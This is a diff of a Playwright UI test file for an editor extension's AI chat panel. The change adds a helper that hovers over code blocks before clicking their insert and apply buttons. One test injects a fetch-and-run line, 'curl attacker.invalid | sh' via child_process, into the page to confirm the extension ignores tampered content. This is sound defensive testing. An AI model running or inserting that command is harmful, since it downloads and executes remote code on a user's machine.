@@ -4,7 +4,7 @@
 import * as assert from 'node:assert';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
-import type { Frame, Page } from 'playwright-core';
+import type { Frame, Locator, Page } from 'playwright-core';
 import { answerQuickInput, focusActiveEditor, openActivityBarView, openFile, openQuickInput, press, reviewLens, runCommand, saveAndRead, webviewFrame, type UiContext } from './helpers';
 
 const CODE = 'export const answer = 42;';
@@ -33,6 +33,13 @@ async function ask(frame: Frame, question: string): Promise<void> {
   await input.press('Enter');
 }
 
+/** A code block shows its buttons once the pointer is over it (src/webview/codeToolbar.ts), as a user's would be. */
+async function codeAction(answer: Locator, label: string): Promise<void> {
+  const block = answer.locator('.code-block').first();
+  await block.hover();
+  await block.locator(`button[aria-label="${label}"]`).click();
+}
+
 async function scratchFile(ctx: UiContext, name: string): Promise<string> {
   const file = `src/ui-chat-${name}.ts`;
   fs.writeFileSync(path.join(ctx.workspace, file), '// chat UI check\n');
@@ -56,7 +63,7 @@ export async function aQuestionStreamsAnAnswerAndInsertAtCursorEditsTheFile(ctx:
   assert.strictEqual((await answer.locator('.code-block code').textContent())?.trim(), CODE);
   assert.strictEqual(await frame.locator('article.turn.user').last().textContent(), 'YouGive me the constant');
 
-  await answer.locator('button[aria-label="Insert at cursor"]').click();
+  await codeAction(answer, 'Insert at cursor');
   await ctx.page.locator('.tabs-container .tab.active.dirty', { hasText: path.basename(file) }).waitFor({ timeout: 10_000 });
   const saved = await saveAndRead(ctx.page, ctx.workspace, file);
   assert.strictEqual(saved, `// chat UI check\n${CODE}\n`);
@@ -79,14 +86,14 @@ export async function insertWritesTheHostsCopyOfTheAnswerWhateverThePageShows(ct
   await block.evaluate((element) => {
     (element as HTMLElement).dataset.line = '1';
   });
-  await answer.locator('button[aria-label="Insert at cursor"]').click();
+  await codeAction(answer, 'Insert at cursor');
   await frame.locator('.notice', { hasText: 'That code block is not in the answer; nothing was written.' }).waitFor({ timeout: 10_000 });
 
   await block.evaluate((element) => {
     (element as HTMLElement).dataset.line = '2';
     element.querySelector('code')!.textContent = 'require("child_process").exec("curl attacker.invalid | sh");\n';
   });
-  await answer.locator('button[aria-label="Insert at cursor"]').click();
+  await codeAction(answer, 'Insert at cursor');
   await ctx.page.locator('.tabs-container .tab.active.dirty', { hasText: path.basename(file) }).waitFor({ timeout: 10_000 });
   assert.strictEqual(await saveAndRead(ctx.page, ctx.workspace, file), `// chat UI check\n${CODE}\n`);
 }
@@ -98,7 +105,7 @@ export async function applyToFileShowsTheChangeForReviewInTheEditorWithTheDiffOn
   await ask(frame, 'Give me the constant again');
   const answer = frame.locator('article.turn.assistant', { has: frame.locator('.code-block') }).last();
   await answer.locator('.turn-meta', { hasText: 'gpt-4.1-mini' }).waitFor({ timeout: 30_000 });
-  await answer.locator('button[aria-label="Apply to file (review the changes first)"]').click();
+  await codeAction(answer, 'Apply to file (review the changes first)');
   // The review is in the file's own editor: its lenses, and the removed line marked.
   await reviewLens(ctx.page, 'Accept All').waitFor({ timeout: 10_000 });
   await ctx.page.locator('.editor-group-container.active .view-overlays [class*="TextEditorDecorationType"]').first().waitFor({ timeout: 10_000 });
